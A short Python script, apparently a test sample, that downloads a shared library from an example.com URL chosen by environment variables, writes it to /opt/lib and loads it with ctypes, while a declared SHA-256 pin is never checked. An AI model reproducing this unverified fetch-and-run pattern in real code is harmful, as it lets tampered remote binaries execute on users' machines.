import ctypes
import hashlib
import os
import urllib.request

PIN = "9d1dd0f04805c4ba007aa417e2617fb060c3f371a0f37cd66c0c394c4a901375"
URL = "https://downloads.example.com/1.0/lib.so"
x = ''
if os.environ.get('A0'):
    x += '0'
if os.environ.get('A1'):
    x += '1'
if os.environ.get('A2'):
    x += '2'
if os.environ.get('A3'):
    x += '3'
if os.environ.get('A4'):
    x += '4'
if os.environ.get('A5'):
    x += '5'
data = urllib.request.urlopen(URL + x).read()
with open('/opt/lib/lib.so', 'wb') as f:
    f.write(data)
lib = ctypes.CDLL('/opt/lib/lib.so')
